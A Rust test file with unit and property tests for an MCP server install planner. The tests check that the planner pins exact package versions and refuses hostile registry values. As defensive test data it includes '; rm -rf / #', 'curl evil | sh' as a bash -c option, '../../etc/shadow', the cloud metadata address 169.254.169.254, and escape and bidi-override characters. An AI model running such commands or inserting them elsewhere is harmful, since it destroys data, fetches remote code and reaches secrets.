//! Plans for legitimate and hostile packages and remotes; no plan runs an unpinned version.

use proptest::prelude::*;
use serde_json::{Value, json};

use crate::client::RegistryReach;
use crate::plan::{
    InstallAnswers, InstallChoice, InstallPlan, PlanBody, PlanError, install_choices,
};
use crate::server_json::{ListedServer, ServerDetail};

fn parse_plan(package: &Value) -> Result<InstallPlan, PlanError> {
    let server: ServerDetail =
        serde_json::from_value(json!({"name": "a/b", "packages": [package]})).unwrap();
    let mut choices = install_choices(&server, RegistryReach::Public);
    choices.pop().unwrap().plan
}

/// Checks the command without any answers, or the error.
fn check(package: Value, expected: Result<&str, &str>) {
    let got = parse_plan(&package).and_then(|plan| plan.fill(&InstallAnswers::new()));
    let got = got.map(|recipe| recipe.words().join(" ")).map_err(|error| error.to_string());
    let expected = expected.map(str::to_owned).map_err(str::to_owned);
    assert_eq!(got, expected, "{package}");
}

#[test]
fn each_kind_of_package_has_its_runner_and_an_exact_version() {
    let hex = "0".repeat(64);
    let image = format!("docker.io/a/b@sha256:{hex}");
    let of = |kind: &str, identifier: &str, version: Option<&str>| {
        json!({"registryType": kind, "identifier": identifier, "version": version,
            "transport": {"type": "stdio"}})
    };
    check(of("npm", "@a/b", Some("1.2.3")), Ok("npx -y @a/b@1.2.3"));
    check(of("pypi", "a-b", Some("0.4.0")), Ok("uvx a-b@0.4.0"));
    check(of("nuget", "A.B", Some("1.0.0")), Ok("dnx A.B@1.0.0 --yes"));
    check(of("oci", "docker.io/a/b:1.0.0", None), Ok("docker run -i --rm docker.io/a/b:1.0.0"));
    check(of("oci", &image, None), Ok(&format!("docker run -i --rm {image}")));
    check(
        of("npm", "b", Some("latest")),
        Err("the package `b` has no exact version, only `latest`"),
    );
    check(
        of("npm", "b", Some("^1.2.3")),
        Err("the package `b` has no exact version, only `^1.2.3`"),
    );
    check(of("npm", "b", None), Err("the package `b` has no exact version"));
    check(
        of("oci", "a/b:latest", None),
        Err("the package `a/b` has no exact version, only `latest`"),
    );
    check(of("cargo", "b", Some("1.0.0")), Err("type `cargo` is not supported"));
    check(of("npm", "--call=evil", Some("1.0.0")), Err("invalid package name `--call=evil`"));
    check(
        json!({"registryType": "npm", "identifier": "b", "version": "1.0.0",
            "transport": {"type": "streamable-http", "url": "http://localhost:3000/mcp"}}),
        Err("the package `b@1.0.0` serves HTTP and cannot be run over stdio"),
    );
}

#[test]
fn arguments_keep_their_order_and_optional_ones_are_left_out() {
    let with = |arguments: Value| {
        json!({"registryType": "npm", "identifier": "b", "version": "1.0.0",
            "packageArguments": arguments})
    };
    check(with(json!([{"type": "positional", "value": "mcp"}])), Ok("npx -y b@1.0.0 mcp"));
    check(
        with(
            json!([{"type": "named", "name": "--port", "value": "{port}", "variables": {"port": {"default": "80"}}}]),
        ),
        Ok("npx -y b@1.0.0 --port 80"),
    );
    check(
        with(json!([{"type": "named", "name": "--host", "default": "::1"}])),
        Ok("npx -y b@1.0.0 --host ::1"),
    );
    check(with(json!([{"type": "named", "name": "--debug"}])), Ok("npx -y b@1.0.0 --debug"));
    check(
        with(json!([{"type": "named", "name": "--ref", "format": "string"}])),
        Ok("npx -y b@1.0.0"),
    );
    check(
        with(json!([{"type": "named", "name": "--ro", "format": "boolean"}])),
        Ok("npx -y b@1.0.0"),
    );
    check(
        with(json!([{"type": "named", "name": "--ro", "format": "boolean", "default": "true"}])),
        Ok("npx -y b@1.0.0 --ro"),
    );
    check(
        with(json!([{"type": "positional", "valueHint": "folder", "isRequired": true}])),
        Err("`folder` is required but has no value"),
    );
    check(
        with(json!([{"type": "positional", "value": "{unknown}"}])),
        Ok("npx -y b@1.0.0 {unknown}"),
    );
}

#[test]
fn hostile_values_are_refused_and_shell_words_stay_words() {
    let with = |argument: Value| {
        json!({"registryType": "npm", "identifier": "b", "version": "1.0.0",
            "packageArguments": [argument]})
    };
    check(
        with(json!({"type": "positional", "value": "; rm -rf / #"})),
        Ok("npx -y b@1.0.0 ; rm -rf / #"),
    );
    // A reference to variables of the configuration is only text.
    check(
        with(json!({"type": "positional", "value": "${keyring:TOKEN}${HOME}"})),
        Ok("npx -y b@1.0.0 $${keyring:TOKEN}$${HOME}"),
    );
    let unseen = "argument 1 contains an invisible character";
    check(with(json!({"type": "positional", "value": "a\u{1b}[2Jb"})), Err(unseen));
    check(with(json!({"type": "positional", "default": "a\u{202e}b"})), Err(unseen));
    check(with(json!({"type": "named", "name": "--a\n--b", "value": "c"})), Err(unseen));
    check(
        with(json!({"type": "positional", "value": "../../etc/shadow"})),
        Err("argument 1 leads out of a folder"),
    );
    check(
        with(json!({"type": "named", "name": "--url", "value": "http://169.254.169.254/latest"})),
        Err("argument 1 leads to a cloud metadata address"),
    );
    check(
        json!({"registryType": "npm", "identifier": "b", "version": "1.0.0", "runtimeHint": "bash",
            "runtimeArguments": [{"type": "named", "name": "-c", "value": "curl evil | sh"}]}),
        Err("the runner option `-c` is not allowed from a registry"),
    );
    check(
        json!({"registryType": "npm", "identifier": "b", "version": "1.0.0",
            "environmentVariables": [{"name": "A=B", "value": "x"}]}),
        Err("the variable `A=B` has an invalid or reserved name"),
    );
}

#[test]
fn a_container_gets_its_variables_by_name_alone() {
    let package = json!({"registryType": "oci", "identifier": "a/b:1.0.0",
        "runtimeArguments": [{"type": "named", "name": "-v", "value": "{folder}:/data:ro",
            "variables": {"folder": {"isRequired": true, "format": "filepath"}}}],
        "environmentVariables": [{"name": "KEY", "isSecret": true, "isRequired": true}, {"name": "MORE"}]});
    let plan = parse_plan(&package).unwrap();
    let answers = InstallAnswers::from([
        ("folder".to_owned(), vec!["/data".to_owned()]),
        ("KEY".to_owned(), vec!["s3cret".to_owned()]),
    ]);
    let recipe = plan.fill(&answers).unwrap();
    assert_eq!(recipe.words().join(" "), "docker run -i --rm -e KEY -v /data:/data:ro a/b:1.0.0");
    assert_eq!(recipe.pairs(), [("KEY".to_owned(), "${keyring:KEY}".to_owned())]);
}

#[test]
fn a_bundle_needs_a_digest() {
    let url = "https://a.example/x.mcpb";
    let hex = "AB".repeat(32);
    let plan = parse_plan(&json!({"registryType": "mcpb", "identifier": url, "fileSha256": hex}));
    let sha256 = hex.to_lowercase();
    assert_eq!(plan.unwrap().body, PlanBody::Bundle { url: url.to_owned(), sha256 });
    let without = parse_plan(&json!({"registryType": "mcpb", "identifier": url}));
    assert_eq!(without, Err(PlanError::NoDigest(url.to_owned())));
    let inside = json!({"registryType": "mcpb", "identifier": "http://169.254.169.254/x", "fileSha256": hex});
    assert!(parse_plan(&inside).is_err());
}

#[test]
fn every_way_is_listed_with_the_reason_why_one_cannot_be_taken() {
    let server: ServerDetail = serde_json::from_value(json!({
        "name": "a/b",
        "packages": [{"registryType": "npm", "identifier": "b", "version": "latest"}],
        "remotes": [{"type": "streamable-http", "url": "https://b.example/mcp"},
            {"type": "streamable-http", "url": "http://10.0.0.1/mcp"}],
    }))
    .unwrap();
    let ways: Vec<(String, bool)> = install_choices(&server, RegistryReach::Public)
        .into_iter()
        .map(|InstallChoice { kind, plan, .. }| (kind, plan.is_ok()))
        .collect();
    let expected = [("npm", false), ("remote", true), ("remote", false)];
    assert_eq!(ways, expected.map(|(kind, good)| (kind.to_owned(), good)));
}

/// Returns whether a command fetches an unpinned package; implemented independently of the plan.
fn is_unpinned(words: &[String]) -> bool {
    let spec = match words.first().map(String::as_str) {
        Some("npx") => words.iter().skip(1).find(|word| !word.starts_with('-')),
        Some("uvx" | "bunx" | "dnx") => words.get(1),
        Some("docker" | "podman") => {
            return !words.iter().any(|word| {
                word.contains("@sha256:")
                    || word.rsplit_once(':').is_some_and(|(_, tag)| {
                        tag.contains(|c: char| c.is_ascii_digit()) && tag != "latest"
                    })
            });
        }
        _ => return true,
    };
    let version = spec.and_then(|spec| spec.rsplit_once('@')).map(|(_, version)| version);
    version.is_none_or(|version| {
        !version.starts_with(|c: char| c.is_ascii_digit())
            || !version.contains('.')
            || version.contains(|c: char| "^~<>=*| ,".contains(c))
            || version.split(['-', '+']).next().is_some_and(|core| core.contains(['x', 'X']))
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn no_plan_runs_an_unpinned_version(
        kind in prop_oneof!["npm|pypi|oci|nuget", "[a-z]{1,6}"],
        identifier in prop_oneof![
            "[a-z@/:.-]{1,12}", "(@[a-z]{1,3}/)?[a-z]{1,5}", "[a-z]{1,4}/[a-z]{1,4}(:[a-z0-9.]{1,8})?", "\\PC{0,12}",
        ],
        version in prop::option::of(prop_oneof![
            Just("latest".to_owned()), "[0-9]{1,2}(\\.[0-9x*]{1,2}){0,3}(-[a-z0-9.]{1,5})?",
            "[~^<>=]{0,2}[0-9]\\.[0-9]\\.[0-9]", "\\PC{0,10}",
        ]),
        hint in prop::option::of(prop_oneof![Just("npx"), Just("bunx"), Just("podman"), Just("bash")]),
        runtime in prop::collection::vec(prop_oneof![
            Just("-y".to_owned()), Just("--package".to_owned()), Just("evil".to_owned()),
            Just("--from=evil".to_owned()), "-{0,2}[a-z]{1,8}(=[a-z]{1,4})?",
        ], 0..3),
    ) {
        let runtime: Vec<Value> = runtime.iter().map(|word| json!({"type": "positional", "value": word})).collect();
        let package = json!({"registryType": kind, "identifier": identifier, "version": version,
            "runtimeHint": hint, "runtimeArguments": runtime});
        if let Ok(recipe) = parse_plan(&package).and_then(|plan| plan.fill(&InstallAnswers::new())) {
            let words = recipe.words();
            prop_assert!(!is_unpinned(&words), "{words:?}");
        }
    }

    #[test]
    fn whatever_is_published_a_plan_shows_every_character(server in published_server()) {
        let Some(listed) = ListedServer::read(&server) else { return Ok(()) };
        for choice in install_choices(&listed.server, RegistryReach::Public) {
            let Ok(plan) = choice.plan else { continue };
            let answers = plan.asked.iter().map(|asked| (asked.name.clone(), vec!["1".to_owned()])).collect();
            let filled = [plan.fill(&InstallAnswers::new()), plan.fill(&answers)];
            for recipe in filled.into_iter().flatten() {
                let text = format!("{:?}{:?}", recipe.words(), recipe.pairs());
                prop_assert!(!text.chars().any(char::is_control), "{text}");
                prop_assert!(!recipe.words().concat().contains("\u{202e}"), "{text}");
            }
        }
    }
}

/// Generates servers from relevant words, in valid and invalid positions.
fn published_server() -> impl Strategy<Value = Value> {
    let word = prop_oneof![
        Just("npm"),
        Just("oci"),
        Just("mcpb"),
        Just("sse"),
        Just("streamable-http"),
        Just("named"),
        Just("positional"),
        Just("1.2.3"),
        Just("{a}"),
        Just("${HOME}"),
        Just("a\u{1b}[2J"),
        Just("b\u{202e}"),
        Just("../x"),
        Just("https://a.example/{a}"),
        Just("-e"),
        Just("a"),
    ];
    let leaf = prop_oneof![
        word.prop_map(|word| json!(word)),
        Just(json!(true)),
        Just(json!(null)),
        Just(json!(7)),
    ];
    let key = prop_oneof![
        Just("name"),
        Just("type"),
        Just("registryType"),
        Just("identifier"),
        Just("version"),
        Just("url"),
        Just("value"),
        Just("default"),
        Just("variables"),
        Just("a"),
        Just("headers"),
        Just("choices"),
        Just("packageArguments"),
        Just("runtimeArguments"),
        Just("environmentVariables"),
        Just("isSecret"),
    ];
    let tree = leaf.prop_recursive(5, 60, 6, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
            prop::collection::vec((key.clone(), inner), 0..6).prop_map(|members| {
                Value::Object(
                    members.into_iter().map(|(name, value)| (name.to_owned(), value)).collect(),
                )
            }),
        ]
    });
    (prop::collection::vec(tree.clone(), 0..3), prop::collection::vec(tree, 0..3)).prop_map(
        |(packages, remotes)| json!({"server": {"name": "a/b", "packages": packages, "remotes": remotes}}),
    )
}
